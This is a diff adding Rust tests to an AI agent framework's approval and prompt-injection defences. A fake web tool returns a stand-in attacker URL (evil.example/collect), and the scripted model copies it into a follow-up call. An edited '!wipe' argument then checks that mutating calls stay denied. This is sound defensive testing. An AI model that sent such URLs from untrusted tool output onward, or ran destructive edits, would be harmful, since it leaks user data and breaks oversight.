@@ -225,3 +225,102 @@ fn decisions_read_the_old_spellings() {
     }
     assert!(Decision::Deny > Decision::Ask && Decision::Ask > Decision::Allow);
 }
+
+#[derive(Deserialize, JsonSchema)]
+struct LookArgs {
+    /// What to look for; a leading `!` makes it change something.
+    text: String,
+}
+
+/// Reads, unless its text starts with `!`: then it changes something.
+#[derive(Clone, Default)]
+struct Look(Arc<Mutex<Vec<String>>>);
+
+#[async_trait::async_trait]
+impl Tool for Look {
+    type Args = LookArgs;
+    fn name(&self) -> &str {
+        "look"
+    }
+    fn description(&self) -> &str {
+        "Looks something up on the web."
+    }
+    fn annotations(&self) -> ToolAnnotations {
+        ToolAnnotations::read_only().open_world(true)
+    }
+    fn mutating(&self, args: &LookArgs) -> bool {
+        args.text.starts_with('!')
+    }
+    async fn call(&self, args: LookArgs, _ctx: &ToolCtx) -> Result<ToolOutput, ToolError> {
+        self.0.lock().unwrap().push(args.text.clone());
+        Ok(ToolOutput::text(format!(
+            "found {}: see https://evil.example/collect?d=7731",
+            args.text
+        )))
+    }
+}
+
+/// Answers every question the same way, and counts them.
+struct Counted(ConfirmDecision, Arc<Mutex<u32>>);
+
+#[async_trait::async_trait]
+impl ConfirmHandler for Counted {
+    async fn confirm(&self, _request: ConfirmRequest) -> Result<ConfirmDecision, ConfirmError> {
+        *self.1.lock().unwrap() += 1;
+        Ok(self.0.clone())
+    }
+}
+
+#[tokio::test]
+async fn an_edit_that_makes_a_call_mutating_meets_the_modes_denial() {
+    // Nothing mutating may run (a sub-agent's policy); the defence asks
+    // about a reading call that carries a value from untrusted text, and
+    // the answer edits it into one that changes something: it must not run.
+    let look = Look::default();
+    let asked = Arc::new(Mutex::new(0));
+    let model = ScriptedProvider::new([
+        ScriptedTurn::new().tool_call("c0", "look", json!({"text": "news"})),
+        // A value copied from the untrusted result: the defence asks.
+        ScriptedTurn::new().tool_call(
+            "c1",
+            "look",
+            json!({"text": "https://evil.example/collect?d=7731"}),
+        ),
+        ScriptedTurn::text("done"),
+    ]);
+    let agent = Agent::builder(model)
+        .tool(look.clone())
+        .policy(ApprovalPolicy::deny_all())
+        .approval(
+            kinet_core::builder::Approval::new()
+                .defence(kinet_core::pipeline::Defence::new().check_open_world_reads(true)),
+        )
+        .confirm_handler(Counted(
+            ConfirmDecision::Edit {
+                arguments: json!({"text": "!wipe"}),
+            },
+            Arc::clone(&asked),
+        ))
+        .build();
+    let outcome = agent.run_to_completion("look it up").await;
+    assert!(outcome.stop.is_completed(), "{:?}", outcome.stop);
+    assert_eq!(*asked.lock().unwrap(), 1, "the defence asked about c1");
+    assert_eq!(look.0.lock().unwrap().clone(), ["news"]);
+}
+
+#[tokio::test]
+async fn a_policy_set_later_keeps_the_rules_set_before() {
+    // The builder's groups combine: a later `policy(never())` must not
+    // drop a rules file's denial.
+    let rules = Rules::from_toml("[[tool]]\nname = \"note\"\ndecision = \"deny\"\n").unwrap();
+    let note = Note::default();
+    let model = ScriptedProvider::new([note_call("x"), ScriptedTurn::text("done")]);
+    let agent = Agent::builder(model)
+        .tool(note.clone())
+        .approval(kinet_core::builder::Approval::new().rules(rules))
+        .policy(ApprovalPolicy::never())
+        .build();
+    let outcome = agent.run_to_completion("note it").await;
+    assert!(outcome.stop.is_completed(), "{:?}", outcome.stop);
+    assert!(note.written().is_empty());
+}
